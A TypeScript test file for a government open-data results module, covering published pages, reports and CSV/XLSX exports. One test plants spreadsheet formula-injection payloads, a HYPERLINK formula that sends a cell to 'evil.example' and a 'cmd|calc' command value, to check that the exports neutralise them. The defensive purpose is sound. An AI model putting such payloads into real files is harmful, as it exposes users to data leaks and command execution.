import Papa from 'papaparse';
import { and, eq } from 'drizzle-orm';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { SYSTEM_ACTORS } from '../../src/lib/server/audit/audit';
import type { DB } from '../../src/lib/server/db';
import {
	assessments,
	periodOpds,
	periods,
	publishedFiles,
	publishedSnapshots
} from '../../src/lib/server/db/schema';
import {
	publishedCsv,
	publishedFile,
	publishedMethod,
	publishedXlsx,
	latestPublishedYearOf,
	publishedOpdPage,
	publishedPage,
	publishedReport
} from '../../src/lib/server/results/open-data';
import { readSheet } from 'read-excel-file/universal';
import { buildOpdPage } from '../../src/lib/insights/opd-page';
import { publishedYearViews } from '../../src/lib/server/results/year-views';
import { awardParagraphs, reportTable } from '../../src/lib/insights';
import { toResultRows } from '../../src/lib/results-table';
import { explainScore } from '../../src/lib/scoring/explain';
import { publish, publishedView } from '../../src/lib/server/results/results';
import { naiveSeedMatrix, SEED_FILES } from './helpers/seed-reader';
import { createTestDb } from './helpers/test-db';

let db: DB;
let cleanup: () => Promise<void>;
beforeEach(async () => {
	({ db, cleanup } = await createTestDb('demo'));
});
afterEach(async () => cleanup());

/**
 * Makes `year` look published before published files existed: no files, and a snapshot holding
 * the whole view (its OPD results inline).
 */
async function publishedBeforeFiles(year: number) {
	const [period] = await db.select().from(periods).where(eq(periods.year, year));
	const body = JSON.stringify(await publishedView(year, db));
	await db
		.update(publishedSnapshots)
		.set({ body })
		.where(eq(publishedSnapshots.periodId, period!.id));
	await db.delete(publishedFiles).where(eq(publishedFiles.periodId, period!.id));
}

describe('published files', () => {
	it('every public OPD page read from its own file equals the page worked out from the snapshots', async () => {
		const views = await publishedYearViews(db);
		let pages = 0;
		for (const view of views)
			for (const { slug } of view.roster) {
				const expected = buildOpdPage(views, view.year, slug);
				expect(await publishedOpdPage(view.year, slug, [], db), `${view.year} ${slug}`).toEqual(
					expected
				);
				pages += 1;
			}
		expect(pages).toBe(33 + 32);
		expect(await publishedOpdPage(2021, 'no-such-opd', [], db)).toBeNull();
		expect(await publishedOpdPage(2019, views[0]!.roster[0]!.slug, [], db)).toBeNull();
	});

	it('an operator reads its OPD page with evidence from its own file, latest year first', async () => {
		const views = await publishedYearViews(db);
		const slug = views[1]!.roster[2]!.slug;
		const details = [
			{
				indicator: views[1]!.result.rubric.indicators[0]!.key,
				evidenceUrl: 'https://contoh.go.id/dip',
				note: 'diunggah Maret',
				selfEvidenceUrl: null,
				selfNote: null
			}
		];
		const page = await publishedOpdPage(2021, slug, details, db);
		expect(page).toEqual(buildOpdPage(views, 2021, slug, details));
		expect(page!.cells[0]!.detail?.evidenceUrl).toBe('https://contoh.go.id/dip');
		expect(await latestPublishedYearOf(slug, db)).toBe(2021);
		const onlyIn2020 = views[0]!.roster.find(
			(r) => !views[1]!.roster.some((x) => x.slug === r.slug)
		)!.slug;
		expect(await latestPublishedYearOf(onlyIn2020, db)).toBe(2020);
		expect(await latestPublishedYearOf('no-such-opd', db)).toBeNull();
	});

	it('an OPD page of a year published before per-OPD files existed comes from the snapshots', async () => {
		await publishedBeforeFiles(2021);
		const views = await publishedYearViews(db);
		const slug = views[1]!.roster[4]!.slug;
		expect(await publishedOpdPage(2021, slug, [], db)).toEqual(buildOpdPage(views, 2021, slug));
	});

	it.each([2020, 2021] as const)(
		'the printable report of %i, built from the page data, is what the snapshot gives',
		async (year) => {
			const view = (await publishedView(year, db))!;
			const report = (await publishedReport(year, db))!;
			const names = new Map(view.roster.map((r) => [r.slug, r.displayName]));
			expect(report.table).toEqual(reportTable(view.result, view.roster));
			expect(report.ranking).toEqual(toResultRows(view.result, view.roster));
			expect(report.awards).toEqual(awardParagraphs(year, view.result, names, view.officialAwards));
			expect(report.awards.computed).toMatch(
				/^Berdasarkan penilaian Daftar Informasi Publik tahun \d{4}, Terbaik I/
			);
		}
	);

	it('the method file holds the rubric and one OPD worked out, as the snapshot gives them', async () => {
		const view = (await publishedView(2021, db))!;
		const method = (await publishedMethod(2021, db))!;
		expect(method.rubric).toEqual(view.result.rubric);
		expect(method.example).not.toBeNull();
		const { slug, lines } = method.example!;
		expect(lines).toEqual(explainScore(view.result, slug));
		expect(lines.at(-1)).toMatch(/^Nilai akhir: .*, peringkat \d+ dari 32/);
	});

	it('a year published before the method file existed is worked out from its snapshot', async () => {
		const [period] = await db.select().from(periods).where(eq(periods.year, 2020));
		const [stored] = await db
			.select({ body: publishedFiles.body })
			.from(publishedFiles)
			.where(and(eq(publishedFiles.periodId, period!.id), eq(publishedFiles.name, 'method.json')));
		await publishedBeforeFiles(2020);
		expect(await publishedFile(2020, 'method.json', db)).toBeNull();
		expect(await publishedMethod(2020, db)).toEqual(JSON.parse(stored!.body));
	});

	it.each([2020, 2021] as const)(
		'matrix.csv of %i reproduces the report table cell for cell',
		async (year) => {
			const file = await publishedFile(year, 'matrix.csv', db);
			const parsed = Papa.parse<string[]>(file!.body.trim());
			const expected = naiveSeedMatrix(SEED_FILES[year]);
			const [header, ...rows] = parsed.data;
			expect(header).toEqual(['No', 'OPD', ...expected.headers]);
			expect(rows).toHaveLength(expected.rows.size);
			for (const row of rows) {
				const want = expected.rows.get(Number(row[0]));
				expect(
					row.slice(2).map((c) => c === '√'),
					`row ${row[0]}`
				).toEqual(want);
			}
		}
	);

	it('serves the page data: ranking in rank order and the matrix in report order', async () => {
		const page = await publishedPage(2021, db);
		expect(page!.rows).toHaveLength(32);
		expect(page!.rows.map((r) => r.rank)).toEqual(
			[...page!.rows.map((r) => r.rank)].sort((a, b) => a - b)
		);
		expect(page!.matrix.map((m) => m.number)).toEqual(Array.from({ length: 32 }, (_, i) => i + 1));
		expect(page!.matrix.find((m) => m.number === 16)).toMatchObject({
			name: 'Kecamatan Kasemen Kota Serang',
			marks: '0010000000011'
		});
	});

	it('neutralises a formula after a line break or blanks in results.csv and matrix.csv', async () => {
		const [period] = await db.select().from(periods).where(eq(periods.year, 2021));
		const evil = 'Dinas X\n=HYPERLINK("http://evil.example/?x="&A1,"klik")';
		const [first] = await db.select().from(periodOpds).where(eq(periodOpds.periodId, period!.id));
		await db
			.update(periodOpds)
			.set({ displayName: evil })
			.where(and(eq(periodOpds.periodId, period!.id), eq(periodOpds.opdId, first!.opdId)));
		const [second] = await db
			.select()
			.from(periodOpds)
			.where(and(eq(periodOpds.periodId, period!.id), eq(periodOpds.displayNumber, 2)));
		await db
			.update(periodOpds)
			.set({ displayName: ' \uff1dcmd|calc' })
			.where(and(eq(periodOpds.periodId, period!.id), eq(periodOpds.opdId, second!.opdId)));
		await publish(period!.id, SYSTEM_ACTORS.cli, db);
		for (const name of ['results.csv', 'matrix.csv'] as const) {
			const body = (await publishedFile(2021, name, db))!.body;
			expect(body, name).toContain("\n'=HYPERLINK");
			expect(body, name).toContain("' \uff1dcmd|calc");
			// No line of the file, and no cell, starts (after blanks) with a formula trigger.
			expect(body, name).not.toMatch(/(^|[\r\n,])"?[^\S\r\n]*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
		}
	});

	it('keeps what was published when cells change later, until the year is published again', async () => {
		const before = await publishedFile(2021, 'results.csv', db);
		const [period] = await db.select().from(periods).where(eq(periods.year, 2021));
		await db.update(assessments).set({ value: 1 }).where(eq(assessments.periodId, period!.id));
		expect((await publishedFile(2021, 'results.csv', db))!.body).toBe(before!.body);
		await publish(period!.id, SYSTEM_ACTORS.cli, db);
		// the ETag cache answers for up to two seconds; a new ETag means new content
		await new Promise((r) => setTimeout(r, 2100));
		const after = await publishedFile(2021, 'results.csv', db);
		expect(after!.etag).not.toBe(before!.etag);
		expect(
			Papa.parse<Record<string, string>>(after!.body.trim(), { header: true }).data.every(
				(r) => r.percent === '100'
			)
		).toBe(true);
	});

	it('stores the public CSVs with a UTF-8 BOM, so the ETag names the body Excel gets', async () => {
		for (const name of ['results.csv', 'matrix.csv'] as const) {
			const stored = (await publishedFile(2020, name, db))!;
			expect(stored.body.startsWith('\ufeff'), name).toBe(true);
			expect(await publishedCsv(2020, name, db)).toEqual(stored);
		}
	});

	it('serves a CSV published before the BOM with one added, under an ETag of its own', async () => {
		const [period] = await db.select().from(periods).where(eq(periods.year, 2021));
		const where = and(
			eq(publishedFiles.periodId, period!.id),
			eq(publishedFiles.name, 'matrix.csv')
		);
		const [row] = await db.select().from(publishedFiles).where(where);
		// As a year published by an earlier version was stored: no BOM.
		await db
			.update(publishedFiles)
			.set({ body: row!.body.replace(/^\ufeff/, '') })
			.where(where);
		const served = (await publishedCsv(2021, 'matrix.csv', db))!;
		expect(served.body).toBe(row!.body);
		expect(served.etag).not.toBe(row!.etag);
		expect(served.etag).toMatch(/^"[^"]+"$/);
		expect(await publishedCsv(2021, 'matrix.csv', db)).toEqual(served);
	});

	it.each(['results', 'matrix'] as const)(
		'%s.xlsx reads back to the rows of the CSV of the same name',
		async (name) => {
			for (const year of [2020, 2021]) {
				const csv = (await publishedCsv(year, `${name}.csv`, db))!;
				const rows = Papa.parse<string[]>(csv.body.slice(1), { skipEmptyLines: true }).data;
				const xlsx = (await publishedXlsx(year, `${name}.xlsx`, db))!;
				const sheet = await readSheet(xlsx.body.buffer as ArrayBuffer);
				expect(sheet.map((r) => r.map((c) => (c == null ? '' : String(c))))).toEqual(rows);
				// One ETag, one body: asked again, the same bytes.
				expect((await publishedXlsx(year, `${name}.xlsx`, db))!).toEqual(xlsx);
			}
		}
	);

	it('has nothing for a year that is not published', async () => {
		expect(await publishedCsv(2019, 'results.csv', db)).toBeNull();
		expect(await publishedXlsx(2019, 'results.xlsx', db)).toBeNull();
		expect(await publishedFile(2019, 'results.json', db)).toBeNull();
		expect(await publishedPage(2019, db)).toBeNull();
	});
});
